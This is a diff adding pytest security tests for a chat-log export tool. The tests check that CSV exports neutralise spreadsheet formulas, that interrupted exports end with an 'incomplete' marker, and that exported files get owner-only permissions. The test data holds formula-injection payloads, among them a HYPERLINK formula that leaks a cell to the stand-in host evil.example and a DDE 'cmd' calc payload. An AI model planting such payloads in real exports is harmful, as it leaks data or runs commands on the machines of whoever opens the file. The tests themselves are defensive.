@@ -7,7 +7,11 @@ permissions of an exported file."""
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
+import os
+import stat
 import subprocess
 import sys
 import time
@@ -18,12 +22,18 @@ import httpx
 import jwt
 import pytest
 from fastapi.testclient import TestClient
+from sqlalchemy import text
 
+from chatspan import semconv as sc
 from chatspan.config import ApiSettings
 from chatspan.query_api import create_app
+from chatspan.records import SpanData, SpanEvent
+from chatspan.store.engine import make_engine
+from chatspan.store.writer import RecordWriter
 
+from pgdb import libpq_dsn
 from seed import BASE, seed
-from servers import clean_env
+from servers import clean_env, run_chatspan_serve, wait_for
 
 ADMIN_KEY = "attacks-admin-key-0123456789"
 JWT_SECRET = "attacks-jwt-secret-0123456789abcdef"
@@ -62,6 +72,89 @@ def _run(*args: str, **env: str) -> subprocess.CompletedProcess:
 
 def _ns(seconds: int) -> int:
     return int(BASE.timestamp() + seconds) * 1_000_000_000
+
+
+# -- 3. formulas in CSV exports ---------------------------------------------------------
+
+# Each starts with a character a spreadsheet reads as the start of a formula.
+FORMULAS = {
+    "user_id": "=1+2",
+    "app_id": "@SUM(A1:A9)",
+    "conversation_id": "+1-1",
+    "input_text": '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
+    "output_text": "-2+3",
+    "model": "\t=cmd|' /C calc'!A0",
+    "provider": "\r=1+1",
+}
+
+
+def _write_formula_rows(url: str) -> None:
+    attributes = {
+        sc.GEN_AI_OPERATION_NAME: "chat",
+        sc.USER_ID: FORMULAS["user_id"],
+        sc.DIFY_APP_ID: FORMULAS["app_id"],
+        sc.GEN_AI_CONVERSATION_ID: FORMULAS["conversation_id"],
+        sc.INPUT_VALUE: FORMULAS["input_text"],
+        sc.OUTPUT_VALUE: FORMULAS["output_text"],
+        sc.GEN_AI_REQUEST_MODEL: FORMULAS["model"],
+        sc.GEN_AI_PROVIDER_NAME: FORMULAS["provider"],
+    }
+    event = SpanEvent(
+        sc.EXCEPTION_EVENT,
+        _ns(1),
+        {
+            sc.EXCEPTION_TYPE: "=2*3",
+            sc.EXCEPTION_MESSAGE: "@now a=b",
+            sc.EXCEPTION_STACKTRACE: "a bare CR\r=1+2\r\n-3",  # no row of its own
+        },
+    )
+    spans = [
+        SpanData(31, 32, "chat", _ns(0), _ns(1), False, attributes),
+        SpanData(41, 42, "POST /x", _ns(0), _ns(1), True, {sc.USER_ID: "a=b"}, (event,)),
+    ]
+    engine = make_engine(url, timeout_s=30)
+    RecordWriter(engine).write(spans)
+    engine.dispose()
+
+
+def _csv_rows(body: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(body)))
+
+
+def test_csv_exports_defuse_formulas_and_json_lines_keep_them_exact(database_url, tmp_path):
+    _write_formula_rows(database_url)
+    app = create_app(ApiSettings(database_url=database_url, admin_api_keys=(ADMIN_KEY,)))
+    headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
+    with TestClient(app, headers=headers) as client:
+        chats_csv = client.get(f"{ADMIN}/chat-logs/export", params={"format": "csv"}).text
+        chats_jsonl = client.get(f"{ADMIN}/chat-logs/export", params={"format": "jsonl"}).text
+        errors_csv = client.get(f"{ADMIN}/error-logs/export", params={"format": "csv"}).text
+    app.state.engine.dispose()
+
+    (chat,) = _csv_rows(chats_csv)
+    for column, formula in FORMULAS.items():
+        assert chat[column] == "'" + formula, column  # a quote first: text, never a formula
+    (error,) = _csv_rows(errors_csv)
+    assert error["type_error"] == "'=2*3"
+    assert error["error_message"] == "'@now a=b"
+    assert error["user_id"] == "a=b"  # only the first character matters
+    assert error["stacktrace"] == "a bare CR\r=1+2\r\n-3"  # in its cell, whole
+    for row in (chat, error):
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+
+    (exact,) = [json.loads(line) for line in chats_jsonl.splitlines()]
+    assert {column: exact[column] for column in FORMULAS} == FORMULAS
+
+    command = subprocess.run(
+        [CHATSPAN, "export", "--format", "csv"],
+        env=clean_env(CHATSPAN_DATABASE_URL=database_url),
+        capture_output=True,
+        timeout=120,
+        check=False,
+    )
+    assert command.returncode == 0, command.stderr
+    assert command.stdout.decode() == chats_csv  # the command writes what the API serves
 
 
 # -- 8. forged input at the edges of time -------------------------------------------------
@@ -134,3 +227,152 @@ def test_log_stats_since_a_moment_still_to_come_is_422_with_a_reason(api):
     )
     assert last_day.status_code == 200, last_day.text  # the last day there is: 24 hours
     assert len(last_day.json()["series"]) == 24
+
+
+# -- 10. exports that fail -------------------------------------------------------------------
+
+
+def test_an_export_with_the_database_down_is_503_before_any_byte():
+    app = create_app(
+        ApiSettings(database_url=UNREACHABLE, admin_api_keys=(ADMIN_KEY,), query_timeout_s=2)
+    )
+    headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
+    with TestClient(app, headers=headers) as client:
+        for path in ("chat-logs/export", "error-logs/export"):
+            for fmt in ("csv", "jsonl"):
+                response = client.get(f"{ADMIN}/{path}", params={"format": fmt})
+                assert response.status_code == 503, (path, fmt, response.text)
+                assert response.headers["retry-after"]
+                assert "database is unavailable" in response.json()["detail"]
+    app.state.engine.dispose()
+
+
+def test_the_export_command_with_the_database_down_fails_and_says_why():
+    result = _run("export", CHATSPAN_DATABASE_URL=UNREACHABLE)
+    assert result.returncode == 1
+    assert result.stdout == ""
+    assert "chatspan: export failed" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+BIG_TEXT = "x" * 2000
+
+
+def _many_big_chats(url: str, count: int) -> None:
+    engine = make_engine(url, timeout_s=120)
+    with engine.begin() as connection:
+        connection.execute(text('TRUNCATE dify_logs, "error"'))
+    spans = (
+        SpanData(
+            1_000 + i,
+            1_000 + i,
+            "chat",
+            _ns(i),
+            _ns(i) + 1,
+            False,
+            {sc.GEN_AI_OPERATION_NAME: "chat", sc.USER_ID: f"user-{i}", sc.INPUT_VALUE: BIG_TEXT},
+        )
+        for i in range(count)
+    )
+    RecordWriter(engine).write(spans)
+    engine.dispose()
+
+
+def _cut_the_export_connection(url: str) -> None:
+    """Terminate the backend serving the export: the one holding its cursor open."""
+    import psycopg
+
+    def exporting() -> list[int]:
+        with psycopg.connect(libpq_dsn(url), autocommit=True) as connection:
+            rows = connection.execute(
+                "select pid from pg_stat_activity where datname = current_database() "
+                "and pid <> pg_backend_pid() and state = 'idle in transaction'"
+            ).fetchall()
+            return [row[0] for row in rows]
+
+    (pid,) = wait_for(exporting, what="the export's open cursor")
+    with psycopg.connect(libpq_dsn(url), autocommit=True) as connection:
+        connection.execute("select pg_terminate_backend(%s)", (pid,))
+
+
+def _last_line(body: str) -> str:
+    return body.rstrip("\r\n").rsplit("\n", 1)[-1]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_an_export_cut_mid_stream_ends_with_a_line_saying_it_is_incomplete(
+    postgres_database, tmp_path, fmt
+):
+    url = postgres_database
+    _many_big_chats(url, 20_000)  # about 40 MB: far more than the socket buffers hold
+    env = clean_env(CHATSPAN_DATABASE_URL=url, CHATSPAN_ADMIN_API_KEYS=ADMIN_KEY)
+    with run_chatspan_serve(tmp_path, env) as server:
+        export = f"{server.base_url}{ADMIN}/chat-logs/export"
+        headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
+        with httpx.stream("GET", export, params={"format": fmt}, headers=headers) as response:
+            assert response.status_code == 200
+            chunks = response.iter_text()
+            body = next(chunks)
+            _cut_the_export_connection(url)
+            body += "".join(chunks)
+    last = _last_line(body)
+    rows = body.count(BIG_TEXT)
+    assert 0 < rows < 20_000
+    if fmt == "csv":
+        (cell,) = next(csv.reader([last]))
+        assert cell.startswith("#") and "incomplete" in cell  # no id (a UUID) starts so
+        assert f"after {rows} rows" in cell
+    else:
+        marker = json.loads(last)
+        assert set(marker) == {"error", "rows"} and "incomplete" in marker["error"]
+        assert marker["rows"] == rows
+    assert "export incomplete" in server.log()
+
+
+def test_the_export_command_cut_mid_stream_exits_non_zero_and_says_so(postgres_database):
+    url = postgres_database
+    _many_big_chats(url, 5_000)  # 10 MB; a pipe holds 64 KB
+    process = subprocess.Popen(
+        [CHATSPAN, "export", "--format", "jsonl"],
+        env=clean_env(CHATSPAN_DATABASE_URL=url),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        first = process.stdout.readline()
+        _cut_the_export_connection(url)
+        rest, errors = process.stdout.read(), process.stderr.read()
+        process.wait(timeout=60)
+    finally:
+        process.kill()
+    lines = [first, *rest.splitlines()]
+    marker = json.loads(lines[-1])
+    assert "incomplete" in marker["error"]
+    assert marker["rows"] == len(lines) - 1 < 5_000
+    assert process.returncode == 1
+    assert "export incomplete" in errors
+    assert "Traceback" not in errors
+
+
+# -- 14. the exported file -------------------------------------------------------------------
+
+
+def test_the_export_command_writes_a_file_only_its_owner_can_read(database_url, tmp_path):
+    seed(database_url)
+    fresh, existing = tmp_path / "fresh.csv", tmp_path / "existing.csv"
+    existing.write_text("old")
+    existing.chmod(0o644)
+    for out in (fresh, existing):
+        result = subprocess.run(
+            [CHATSPAN, "export", "-o", str(out)],
+            env=clean_env(CHATSPAN_DATABASE_URL=database_url),
+            capture_output=True,
+            text=True,
+            timeout=120,
+            check=False,
+            preexec_fn=lambda: os.umask(0o022),
+        )
+        assert result.returncode == 0, result.stderr
+        assert stat.S_IMODE(out.stat().st_mode) == 0o600, out
+        assert len(_csv_rows(out.read_text())) == 60
